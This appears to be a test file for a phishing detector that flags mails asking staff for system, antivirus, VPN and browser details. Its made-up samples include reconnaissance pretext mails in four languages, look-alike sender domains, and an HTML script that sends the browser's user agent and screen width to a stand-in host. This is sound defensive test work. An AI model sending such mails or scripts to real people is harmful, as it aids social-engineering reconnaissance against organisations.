/** What mails ask for: in four languages, in disguise, and by whom. All mails but those of the last part are made up here. */
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { alikeLetters, foldWords } from "../src/content/mail-phrases.ts";
import { foldedSql } from "../src/detect/mail.ts";
import { temporaryFolder } from "./support/files.ts";
import { type Asked, askedBy, type Letter, results } from "./support/letters.ts";
import { missing, shared } from "./support/places.ts";
import { content, triageDocument } from "./support/triage.ts";
import { Workbench } from "./support/workbench.ts";

const folder = temporaryFolder();
let runs = 0;
const ask = (letters: Readonly<Record<string, Letter>>) => askedBy(join(folder, `${++runs}`), letters);

/** Texts by themselves, each in a mail of its own sender and subject. */
async function askAll(texts: readonly string[], html = false): Promise<ReadonlyMap<string, Asked>> {
  return ask(
    Object.fromEntries(
      texts.map((text, index) => [
        text,
        { text, html, from: `jo@partner-${index}.test`, subject: `Good morning number ${"i".repeat(index)}` },
      ]),
    ),
  );
}

describe("phrases", () => {
  test.each(content().mail.languages.map((language) => [language.title, language] as const))(
    "%s: the samples of the catalogue",
    async (_, { samples }) => {
      const found = await askAll([...samples.asks.map(({ text }) => text), ...samples.tells]);
      for (const { text, kinds } of samples.asks)
        expect(found.get(text)?.kinds, text).toEqual(inOrder(kinds));
      for (const text of samples.tells) expect(found.get(text)?.sentence, text).toBeUndefined();
    },
  );

  test("kinds of items are those that a report can name", () => {
    const known = Object.keys(content().mail.signs.kinds);
    for (const { items } of content().mail.languages)
      expect(known).toEqual(expect.arrayContaining(Object.keys(items)));
  });

  test("the engine folds texts as the catalogue folds its words", async () => {
    const { signs } = content().mail;
    const bench = await Workbench.open();
    const texts = [
      "Größe: ÉTÉ (très)",
      "ＶＰＮ-Ｃｌｉｅｎｔ",
      "bro\u200bw\u00adser",
      "с\u0440а е",
      "a/b_c",
      "x — y",
    ];
    const rows = await bench.engine.rows(
      `SELECT trimBoth(${foldedSql("text", content().mail)}) AS folded FROM (SELECT arrayJoin({texts:Array(String)}) AS text)`,
      { texts },
    );
    await bench.close();
    expect(rows.map(({ folded }) => folded)).toEqual(
      texts.map((text) => foldWords(text, alikeLetters(signs)).trim()),
    );
    expect(foldWords("bro\u200bw\u00adser", alikeLetters(signs))).toBe("browser");
  });
});

/** Kinds in the order of the catalogue. */
function inOrder(kinds: readonly string[]): string[] {
  return Object.keys(content().mail.signs.kinds).filter((kind) => kinds.includes(kind));
}

describe("own wording", () => {
  const asking: readonly (readonly [string, readonly string[]])[] = [
    [
      "We are updating our records. Kindly provide the following details:\n1. Operating system and version\n2. Antivirus product\n3. VPN client",
      ["system", "security", "vpn"],
    ],
    [
      "We kindly ask all staff to reply to this message stating: browser, operating system, antivirus.",
      ["browser", "system", "security"],
    ],
    ["If you could tell us which VPN client you use, that would help.", ["vpn"]],
    ["Hi, quick one: what browser are you on? Need it for a report.", ["browser"]],
    [
      "Please complete the attached questionnaire on your remote access software and your proxy settings.",
      ["remote", "network"],
    ],
    ["Press Windows+R, type msinfo32 and save the report.\n\nForward the file to this address.", ["output"]],
    ["Could you please export the VPN profile (.ovpn) and attach it to your reply?", ["vpn", "profile"]],
    ["Open chrome://version and paste everything you see into your reply.", ["output"]],
    [
      "Wir aktualisieren die Liste. Bitte nennen Sie uns Ihren Virenscanner und das Betriebssystem.",
      ["security", "system"],
    ],
    ["Könntest du mir kurz deinen Rechnernamen und die Windows-Version schicken?", ["device", "system"]],
    ["Bitte fügen Sie einen Screenshot der VPN-Einstellungen bei.", ["screenshot", "vpn"]],
    [
      "Nous mettons à jour l'inventaire : merci d'indiquer votre antivirus et la version de Windows.",
      ["security", "system"],
    ],
    ["Pouvez-vous nous dire quel logiciel de messagerie vous utilisez ?", ["mail"]],
    ["Necesitamos saber qué antivirus tiene instalado y la versión de Windows.", ["security", "system"]],
    ["¿Podría indicarnos qué navegador usa?", ["browser"]],
  ];
  const telling: readonly string[] = [
    "Please let us know how you like the courses on Word, Outlook and Teams.",
    "The maintenance is on Sunday. Your browser version will be checked by the portal when you sign in.",
    "Thanks for your help. My operating system is Windows 11 and I use Firefox 128.",
    "Security advisory: all versions of the VPN client before 5.1 are affected. Update your VPN client now.",
    "We collect your browser type and operating system when you visit our site, see our privacy notice.",
    "Please send the signed contract by Friday.",
    "View this message in your browser. Unsubscribe.",
    "Here is the screenshot of my proxy settings that you wanted.",
    "Ihr Virenscanner wurde automatisch aktualisiert. Bitte starten Sie Ihren Rechner neu.",
    "Ich nutze Outlook in der Version 2019 und habe einen Screenshot angehängt.",
    "Votre navigateur n'est plus pris en charge : merci d'installer la dernière version.",
    "Su antivirus se actualizó. No es necesario responder a este mensaje.",
    "How to find your IP address: open a command prompt and run ipconfig.",
  ];
  test("asks", async () => {
    const found = await askAll(asking.map(([text]) => text));
    for (const [text, kinds] of asking) expect(found.get(text)?.kinds, text).toEqual(inOrder(kinds));
  });
  test("tells", async () => {
    const found = await askAll(telling);
    expect([...found].map(([text, { sentence }]) => `${text}: ${sentence}`)).toEqual([]);
  });
});

describe("words of everyday", () => {
  /** Each asks for a thing or more in words of its own; none is a phrase of the catalogue. */
  const asking: readonly string[] = [
    "Guten Tag,\n\nfür die Freischaltung Ihres Zugangs zur Kundenplattform fehlen noch Angaben zum verwendeten Endgerät. Nennen Sie uns formlos Betriebssystem samt Build, den bevorzugten Browser und das eingesetzte Sicherheitspaket.\n\nIhr Plattformteam",
    "Hallo Frau Huber,\nmein Notebook ist eingegangen und ich bin beim Kunden. Wie heißt bei uns gleich nochmal das Programm für die Einwahl, welche Adresse steht dort drin, und welchen Virenschutz haben wir? Bitte nur per Mail.\nGruß Karl",
    "Sehr geehrte Damen und Herren,\n\nim Rahmen der Rezertifizierung bitten wir um Rücksendung der nachstehenden Aufstellung:\n\nAnzahl PCs: ____\nBetriebssysteme: ____\nEndpoint-Lösung (Hersteller): ____\nFernwartungssoftware: ____\nMDM: ____",
    "Liebe Kollegin, drück bitte Windows-Taste und R, gib msinfo32 ein, speichere das Ganze und häng die Datei an deine Antwort. Danke!",
    "Ihr Konnektor wird getauscht. Der Techniker braucht vorab: Modell des Routers, Firmwarestand, welches Kartenlesegerät und die Windows-Version am Empfangs-PC. Kurze Antwort genügt.",
    "Damit der Plan richtig aufgeht: öffnest du PDFs mit Acrobat oder Foxit, und welche Office-Version läuft bei euch? Sind Makros erlaubt?",
    'Könnten Sie mir zwei Screenshots machen: einmal die Seite "Info" aus den Windows-Einstellungen und einmal die Liste der Browsererweiterungen?',
    'Teilnahme an der Studie "Digitaler Arbeitsplatz": Mit welchem Browser arbeiten Sie? Welche Version? Nutzen Sie einen Passwortmanager? Welches Betriebssystem? Antworten einfach per Mail.',
    "Hello,\n\nour auditors are nearly done with your subsidiary. To finish the sheet they still lack a couple of facts about the accounts computers: is BitLocker turned on, what is the exact release of Windows (type winver), and who supplies the malware protection?\n\nA line each will do.\nRegards",
    "Dear Sir,\nWe are preparing the remote session for your scanner. Our engineer will connect by whichever remote tool you have. Would you advise which it is - TeamViewer, AnyDesk, other - its version and ID, and the name of the computer?",
    "Scan the QR code with your work phone to enrol it. The enrolment page checks OS level, installed security apps and whether the phone is managed, then reports to HR.",
    "Subject: x\n\nWe're benchmarking mid-size manufacturers. Seven short questions:\n1) How many Windows 10 machines remain?\n2) Vendor of your EDR?\n3) MDM in use?\n4) VPN concentrator brand?\nAll replies get the report.",
    "Hi Tom,\ncan you do me a favour? I'm at the airport and IT isn't picking up. What's the name of the thing we use to get on the network from outside, and what do you put in as server? Also what version of Windows did they give you?\nThanks, Mark",
    "Dear customer,\n\nyour fleet card terminal needs new drivers. Let our hotline have the following before Friday:\n\n* PC make, model\n* Windows edition (32 or 64 bit)\n* firewall product\n* does the machine connect via proxy?\n\nHotline",
    "Please complete the fields below and send the mail back.\n\nWorkstation ID:\nOperating system:\nOffice version:\nVirus protection:\nBrowser:\n\nAccess Management",
    "Congratulations! To send you the right test device, we ask each panel member to run our profiler: https://x.test/p . It picks up your browser, plug-ins, screen and operating system and passes them to us. Takes ten seconds.",
    "Jane, quick favour for the tender: list the laptops your team has (brand, OS level, AV agent). Need it by two. Ta, Rob",
    "The new e-invoicing gateway rejects older TLS. Kindly revert with screenshot of Internet Options > Advanced and the About dialog of your browser.",
    "as discussed, export the connection from your FortiClient (File > Settings > Backup) and email the .conf to me so I can pre-load it on the spare machine",
    "Buenas tardes:\n\nPara activar su certificado nos falta saber con qué ordenador trabaja. Indíquenos por favor sistema operativo, navegador y antivirus, con sus versiones.\n\nAtención al cliente",
    "Hola Ana, estoy fuera y no me va el portátil. ¿Cómo se llama el programa para conectarse desde casa y qué dirección pones? ¿Y qué antivirus tenemos ahora? Gracias, Luis",
    "Complete el siguiente formulario y devuélvalo:\n\nModelo del equipo: ______\nVersión de Windows: ______\nAntivirus: ______\nCliente VPN: ______",
    "Necesito que me mandes una captura de la ventana Acerca de de Windows y otra de las extensiones de Chrome, para el inventario.",
    "Bonjour,\n\nPour finaliser le raccordement de votre terminal, notre technicien aimerait connaître le système de l'ordinateur de caisse (Windows 10 ou 11), l'antivirus en place et le modèle de la box. Pouvez-vous lui répondre aujourd'hui ?\n\nService clients",
    "Salut, je suis chez le client sans mon PC. C'est quoi déjà le nom du logiciel pour se connecter de chez nous et l'adresse du serveur ? Et tu es sous quelle version de Windows ? Merci",
    "Dans le cadre de l'audit annuel, veuillez retourner :\n- la liste des postes avec leur système\n- la solution antivirus et sa version\n- l'outil de prise en main à distance\n- une copie d'écran de la fenêtre « À propos de Windows »",
    "Ouvrez PowerShell, collez la commande Get-ComputerInfo puis envoyez-nous ce qui s'affiche en réponse à ce message.",
    "Enquête : 5 questions sur votre poste. 1. Quel navigateur ? 2. Quelle version d'Office ? 3. Quel antivirus ? 4. Travaillez-vous avec un VPN ? Répondez directement.",
  ];
  /** What offices write all day: they name such things, ask for others, or tell. */
  const ordinary: readonly string[] = [
    "Liebe Kolleginnen und Kollegen, am Samstag werden Windows-Updates und der neue Virenscanner verteilt. Bitte lassen Sie die Rechner eingeschaltet. Bei Fragen antworten Sie auf diese Mail.",
    "Sehr geehrte Frau Koch, anbei das Angebot über 20 Notebooks mit Windows 11 und Office sowie 20 Lizenzen Virenschutz. Bitte teilen Sie uns mit, ob wir die Geräte vorinstallieren sollen.",
    "Welche Farbe soll das neue Notebook haben, und brauchen Sie eine Dockingstation? Bitte kurze Antwort an den Einkauf.",
    "Wir suchen eine IT-Fachkraft (m/w/d) mit Kenntnissen in Windows, VPN und Firewalls. Bitte senden Sie uns Ihre Unterlagen.",
    "Hallo, der Drucker druckt nicht. Ich habe Windows 11 und den Treiber neu installiert. Können Sie mir sagen, was ich tun soll?",
    "Bitte bestätigen Sie die Teilnahme an der Schulung Excel und Outlook und teilen Sie uns mit, ob Sie einen eigenen Laptop mitbringen.",
    "Ihre Sendung wartet. Bitte antworten Sie mit Name und Adresse.",
    "Bonjour, la mise à jour de Windows et de l'antivirus aura lieu jeudi. Merci de laisser votre poste allumé et de fermer Outlook. Prévenez-nous si le VPN ne fonctionne plus.",
    "Veuillez nous indiquer la taille de votre équipe et la date souhaitée pour la formation Excel. Apportez votre ordinateur portable.",
    "Merci de confirmer la commande : 10 PC sous Windows 11, 10 licences Office et antivirus. Adresse de livraison inchangée ?",
    "Quel VPN choisir en 2026 ? Notre comparatif de dix antivirus et navigateurs. Dites-nous ce que vous en pensez sur le forum.",
    "Hi all,\n\non Friday we replace the firewall. Please save your work and log off from the VPN by 5 pm. After the weekend check that Outlook opens; if it does not, tell the help desk.\n\nIT",
    "Please find attached the quotation for 30 endpoint protection licences and the firewall. Let us know if you need anything else. Shall we include the VPN module?",
    "Hi, my laptop (Windows 11, Defender, FortiClient) got stuck after the update. Can you tell me what to do? Should I reinstall Office?",
    "Reminder: your meter reading is still missing. Please reply with the number shown on the display and a photo of the meter.",
    "Please tell me which room you prefer, whether you need a projector, and if your laptop has HDMI or USB-C.",
    "Change of bank details: kindly confirm receipt and tell us which invoices are open.",
    "Your order 4471: 12 laptops with Windows 11 Pro, Office 2024 and ESET licences. Please confirm the delivery address and let us know who signs for the goods.",
    "Hi Sam, which of the two monitors do you want, and should the laptop have 16 or 32 GB of RAM? I'll order tomorrow.",
    "We look for a system administrator with experience in Windows, VPN and antivirus. Please send your CV and tell us when you could start.",
    "Dear customer, we have changed the supported systems: Windows 11, macOS 14, Chrome 140 or Edge 140. Please make sure that your computers meet these requirements before 1 March. Your account manager can answer questions.",
    "Hello, could you send me the signed contract as a Word or PDF file? I cannot open the one from Teams in my browser. Thanks",
    "Thanks for your report. We could reproduce it on Windows 11 with Chrome and Firefox; a fix comes with version 5.2. Could you confirm that the invoice address is right?",
    "Security news: attackers use fake VPN portals. What can you do? Keep Windows, your browser and your antivirus up to date. Which tool do you trust most? Tell us on our blog.",
    "Webinar tomorrow: please use Chrome or Edge, allow the microphone and camera, and switch your VPN off. Reply to this mail if you cannot attend.",
    "Buenos días: el jueves se actualizan Windows y el antivirus. Dejen los equipos encendidos y cierren Outlook. Si la VPN falla, avisen a sistemas.",
    "Confirme por favor el pedido de 5 portátiles con Windows 11 y Office, e indíquenos la dirección de entrega.",
    "Por favor, díganos cuántas personas asistirán al curso de Excel y si necesitan ordenador.",
  ];
  test("whoever asks is found", async () => {
    const found = await askAll(asking);
    expect(asking.filter((text) => !found.has(text))).toEqual([]);
  });
  test("ordinary mail is not", async () => {
    const found = await askAll(ordinary);
    expect([...found].map(([text, { sentence }]) => `${text}: ${sentence}`)).toEqual([]);
  });
  test("fields of a form are blanks, things are asked for in one place, and a reminder asks for what it quotes", async () => {
    const pages = [
      "<form action='https://collect.test/'><p>Operating system <input name=a></p><p>VPN client, version <select name=b><option>1</select></p></form>",
      "<form action='https://shop.test/'><p>Name <input name=a></p><p>Operating system <input type=hidden name=b></p></form>",
    ];
    expect([...(await askAll(pages, true)).keys()]).toEqual(pages.slice(0, 1));
    const between = "The harbour is quiet today. ".repeat(14);
    const apart = `Please tell us about your operating system in general. ${between}Please tell us about the antivirus in general.`;
    const quoted =
      "> the build of Windows that you run\n> the antivirus and its version\n> Please send both.";
    const found = await ask({
      near: { text: apart.replace(between, ""), subject: "Near" },
      nudge: {
        text: `Still waiting for this.\n\n${quoted}`,
        subject: "Re: Two lines",
        from: "a@partner-a.test",
      },
      thanks: {
        text: `Thank you for your visit.\n\n${quoted}`,
        subject: "Re: Visit",
        from: "b@partner-b.test",
      },
    });
    expect([...found.keys()].sort()).toEqual(["near", "nudge"]);
  });
});

describe("disguises", () => {
  const hidden = [
    "Please send us your bro\u200bwser ver\u200csion.",
    "Please send us your brow\u00adser version.",
    "Please send us your br\u043ewser v\u0435rsion.",
    "PLEASE   SEND\u00a0US\n  your\tBROWSER\n version",
    "Please send us your \uff42\uff52\uff4f\uff57\uff53\uff45\uff52 version.",
    "Please send us your b r o w s e r  v e r s i o n now.",
    "Please send us your br\u0301owser versi\u0308on.",
  ];
  test("do not hide what is asked for", async () => {
    const found = await askAll(hidden);
    for (const text of hidden) expect(found.get(text)?.kinds, text).toEqual(["browser"]);
  });
  test("neither do entities and lists of a page", async () => {
    const pages = [
      "<p>Please send us your &#98;&#114;owser &#x76;ersion.</p>",
      "<p>Please reply with:</p><ul><li>your browser</li><li>your VPN client</li></ul>",
    ];
    const found = await askAll(pages, true);
    expect(pages.map((page) => found.get(page)?.kinds)).toEqual([["browser"], ["browser", "vpn"]]);
  });
  test("what is quoted is not asked by this mail", async () => {
    const question = "Please tell us which browser version you use.";
    const found = await askAll([
      `It is Firefox.\n\nOn 16 May 2026 at 10:00, Help <help@desk.test> wrote:\n> ${question}`,
      `It is Firefox.\n\nAm 16.05.2026 um 10:00 schrieb Help <help@desk.test>:\n\n${question}`,
      `It is Firefox.\n\nFrom: Help <help@desk.test>\nSent: Saturday, 16 May 2026\nTo: Ann\nSubject: Browser\n\n${question}`,
      `It is Firefox.\n\n-----Original Message-----\n${question}`,
    ]);
    expect([...found.keys()]).toEqual([]);
    const answered = `> How are you?\n\n${question}`;
    expect((await askAll([answered])).get(answered)?.kinds).toEqual(["browser"]);
  });
});

describe("who asks", () => {
  const text = "Please reply with your browser version and the VPN client you use.";
  const pass = results("pass", "pass", "pass");
  /** Mails that make larch.example the domain to which most recipients belong. */
  const ours: Readonly<Record<string, Letter>> = Object.fromEntries(
    ["bob", "cy", "di"].map((name) => [
      name,
      { to: `${name}@larch.example`, from: `x@${name}.test`, text: "Hello." },
    ]),
  );

  test.each([
    ["larch-support.example", /words added/],
    ["1arch.example", /look alike/],
    ["larhc.example", /changed|look alike|authenticat/],
    ["larch.test", /another ending/],
    ["larch.example.sign-in.test", /beginning of a longer one/],
    ["larchhelp.test", /words added/],
  ])("a look-alike: %s", async (domain, says) => {
    const found = await ask({ ...ours, false: { from: `it@${domain}`, text, fields: [pass] } });
    const one = found.get("false");
    expect(one?.sentence).toMatch(says);
    if (domain !== "larhc.example") expect(one).toMatchObject({ severity: "high", action: "escalate" });
  });

  test("each sign by itself", async () => {
    const found = await ask({
      ...ours,
      failed: {
        from: "it@maple.test",
        subject: "A failed result here",
        text,
        fields: [results("fail", "none", "fail")],
      },
      name: {
        from: '"help@larch.example" <q@birch.test>',
        subject: "Another name in front",
        text,
        fields: [pass],
      },
      company: {
        from: '"Larch Service Desk" <q@beech.test>',
        subject: "Our name in front of it",
        text,
        fields: [pass],
      },
      free: {
        from: '"IT Support" <it.support@gmail.com>',
        subject: "An office at a free provider",
        text,
        fields: [pass],
      },
      reply: {
        from: "it@larch.example",
        subject: "Answers go elsewhere",
        text,
        fields: [pass, "Reply-To: form@elm.test"],
      },
      spoofed: {
        from: "it@larch.example",
        subject: "Ours, and nothing proves it",
        text,
        fields: [results("none", "none", "none")],
      },
      inside: { from: "it@larch.example", subject: "Inventory by our own desk", text, fields: [pass] },
      outside: { from: "jo@oak.test", subject: "A question of a partner", text, fields: [pass] },
    });
    for (const name of ["failed", "name", "company", "free", "reply", "spoofed"])
      expect(found.get(name), name).toMatchObject({ severity: "high", action: "escalate" });
    expect(found.get("inside")).toMatchObject({ severity: "low", action: "watch" });
    expect(found.get("outside")).toMatchObject({ severity: "medium", action: "escalate" });
    expect(found.get("reply")?.sentence).toMatch(/elm\.test/);
  });

  test("three people make a campaign, in one mail or in several, which are one case", async () => {
    const found = await ask({
      ...ours,
      ...Object.fromEntries(
        [1, 2, 3].map((n) => [
          `part ${n}`,
          {
            from: `jo@oak-${n}.test`,
            to: `p${n}@larch.example`,
            subject: `Survey of workplaces, part ${n}`,
            text,
            fields: [pass],
          },
        ]),
      ),
      once: {
        from: "al@pine.test",
        to: "a@larch.example, b@larch.example, c@larch.example",
        subject: "To all of you at once",
        text,
        fields: [pass, "In-Reply-To: <earlier@pine.test>"],
      },
      two: {
        from: "ed@fir.test",
        to: "a@larch.example, b@larch.example",
        subject: "To the two of you only",
        text,
        fields: [pass, "In-Reply-To: <earlier@fir.test>"],
      },
    });
    for (const name of ["part 1", "part 2", "part 3", "once"])
      expect(found.get(name)?.action, name).toBe("escalate");
    // That it answers a mail is its own word: none of ours is here, and it quotes none.
    expect(found.get("two")?.action).toBe("escalate");
    expect(new Set([1, 2, 3].map((n) => found.get(`part ${n}`)?.inCase)).size).toBe(1);
    expect(found.get("part 1")?.inCase).not.toBe(found.get("once")?.inCase);
  });

  test("lists, trackers and answers to us ask whoever wanted that", async () => {
    const found = await ask({
      ...ours,
      list: {
        from: "dev@oak.test",
        to: "users@lists.ash.test",
        subject: "Crash on start",
        text,
        fields: ["List-Id: <users.lists.ash.test>", results("pass", "fail", "fail")],
      },
      claimed: {
        from: "dev@yew.test",
        to: "ann@larch.example",
        subject: "A list in name only",
        text,
        fields: ["List-Id: <users.lists.yew.test>", pass],
      },
      tracker: {
        from: "bugzilla@ash.test",
        subject: "[Bug 4711] Crash on start",
        text,
        fields: [pass, "In-Reply-To: <bug-4711@ash.test>"],
      },
      "tracker in name only": {
        from: "it@elm.test",
        subject: "[Ticket 4711] Crash on start",
        text,
        fields: [pass],
      },
      "own list in name only": {
        from: "helpdesk@larch.example",
        to: "ann@larch.example",
        subject: "Inventory of the autumn",
        text,
        fields: ["List-Id: <staff.larch.example>", results("fail", "fail", "fail")],
      },
      question: {
        from: "ann@larch.example",
        to: "help@vendor.test",
        subject: "Page is blank",
        text: "It stays blank.",
        fields: ["Message-ID: <q1@larch.example>"],
      },
      answer: {
        from: "help@vendor.test",
        to: "ann@larch.example",
        subject: "Re: Page is blank",
        text,
        fields: ["Message-ID: <v1@vendor.test>", "In-Reply-To: <q1@larch.example>", pass],
      },
      joined: {
        from: "help@vendor-care.test",
        to: "ann@larch.example",
        subject: "Re: Page is blank",
        text,
        fields: ["In-Reply-To: <q1@larch.example>", pass],
      },
    });
    expect([...found.keys()].sort()).toEqual([
      "claimed",
      "joined",
      "own list in name only",
      "tracker in name only",
    ]);
    expect(found.get("joined")).toMatchObject({ severity: "high", action: "escalate" });
    expect(found.get("joined")?.sentence).toMatch(/joins a thread/);
  });

  test("a made-up thread: the quotation names a partner whose domain it is not", async () => {
    const quoted = `${text}\n\nOn 15 May 2026, Kim <kim@alder.test> wrote:\n> The invoice is attached.`;
    const found = await ask({
      ...ours,
      false: {
        from: "kim@a1der-mail.test",
        subject: "Re: Invoice of May",
        text: quoted,
        fields: ["In-Reply-To: <lost@alder.test>", pass],
      },
      true: {
        from: "kim@alder.test",
        subject: "Re: Invoice of June",
        text: quoted,
        fields: ["In-Reply-To: <lost@alder.test>", pass],
      },
    });
    expect(found.get("false")?.sentence).toMatch(/joins a thread/);
    expect(found.get("true")?.severity).toBe("medium");
  });
});

describe("scripts and pages", () => {
  test("a script that reads the client asks, one property does not", async () => {
    const found = await ask({
      reads: {
        html: true,
        text: "<p>Open it.</p><script>let a=[navigator.userAgent,screen.width];fetch('https://collect.test/?'+a)</script>",
      },
      plain: {
        html: true,
        from: "x@elm.test",
        subject: "Newsletter",
        text: "<p>News.</p><script>if(navigator.appName=='x')document.write('y')</script>",
      },
    });
    expect([...found.keys()]).toEqual(["reads"]);
    expect(found.get("reads")?.sentence).toMatch(/user agent, screen/);
  });
  test("a page that checks the browser counts under a false sender only", async () => {
    const text = "Please click https://check.test/ to run the browser check before Monday.";
    const found = await ask({
      false: { from: "it@elm.test", text, fields: [results("fail", "fail", "fail")] },
      plain: {
        from: "it@oak.test",
        subject: "Webinar on Monday",
        text,
        fields: [results("pass", "pass", "pass")],
      },
    });
    expect([...found.keys()]).toEqual(["false"]);
  });
});

describe("real mails", () => {
  const mails = join(shared, "data", "mail_spamassassin");
  test("none of 750 asks", async (context) => {
    if (!existsSync(mails)) context.skip(missing(mails));
    const document = await triageDocument([mails]);
    expect(document.sources.reduce((sum, { events }) => sum + events, 0)).toBe(750);
    expect(document.indicators.find(({ id }) => id === "phish.config-request")?.ran).toBe(true);
    expect(document.findings.map(({ entity, sentence }) => `${entity}: ${sentence}`)).toEqual([]);
  });
});
